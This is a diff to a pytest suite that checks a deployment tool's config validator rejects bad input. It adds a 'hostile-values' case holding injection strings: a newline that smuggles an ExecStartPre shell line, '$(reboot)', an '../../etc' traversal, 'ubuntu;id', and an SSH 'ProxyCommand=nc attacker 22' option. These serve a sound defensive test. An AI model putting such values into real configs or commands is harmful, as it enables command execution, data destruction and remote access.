@@ -29,7 +29,7 @@ def reached_cloud(fault_control: Any, environment: str) -> bool:
 
 
 #: (id, config text or a dict merged into a valid config, what the message must say)
-CASES: list[tuple[str, Any, str]] = [
+CASES: list[tuple[str, Any, str | tuple[str, ...]]] = [
     ("not-yaml", "environment: [unclosed\n", "not valid YAML"),
     ("unknown-section", {"servr": {"flavor": "x"}}, "servr"),
     ("wrong-type", {"volume": {"size_gb": "big"}}, "volume.size_gb"),
@@ -40,6 +40,16 @@ CASES: list[tuple[str, Any, str]] = [
     ),
     ("bad-port", {"prefect": {"port": 70000}}, "prefect.port"),
     ("relative-mount", {"volume": {"mount_point": "pspace"}}, "volume.mount_point"),
+    (
+        "hostile-values",
+        {
+            "volume": {"owner": "ubuntu\nExecStartPre=/bin/sh"},
+            "prefect": {"venv": "/mnt/pspace/$(reboot)", "home": "/mnt/pspace/../../etc"},
+            "server": {"user": "ubuntu;id"},
+            "arc": {"options": ["reconnect", "ProxyCommand=nc attacker 22"]},
+        },
+        ("volume.owner", "prefect.venv", "prefect.home", "server.user", "arc.options"),
+    ),
     ("no-such-cloud", {"cloud": {"cloud": "arbutus-typo"}}, "arbutus-typo"),
     ("no-such-credentials-block", {"cloud": {"credentials_block": "nope-cloud"}}, "nope-cloud"),
     (
@@ -57,7 +67,7 @@ CASES: list[tuple[str, Any, str]] = [
 @pytest.mark.parametrize(("data", "expect"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
 def test_bad_input_is_named_and_writes_nothing(
     data: Any,
-    expect: str,
+    expect: str | tuple[str, ...],
     make_config: Any,
     prefect_server: Any,
     sandbox_env: Any,
@@ -85,10 +95,13 @@ def test_bad_input_is_named_and_writes_nothing(
     )
     said = proc.stdout + proc.stderr
     assert proc.returncode in (1, 2), said
-    assert expect in said, said
+    for part in (expect,) if isinstance(expect, str) else expect:
+        assert part in said, said
     assert "Traceback" not in said, said
     assert writes_of(fault_control, "t-input") == 0
-    if expect.startswith(("image", "flavor", "quota")):  # preflight read the cloud, wrote nothing
+    if isinstance(expect, str) and expect.startswith(
+        ("image", "flavor", "quota")
+    ):  # preflight read the cloud, wrote nothing
         assert reached_cloud(fault_control, "t-input")
 
 
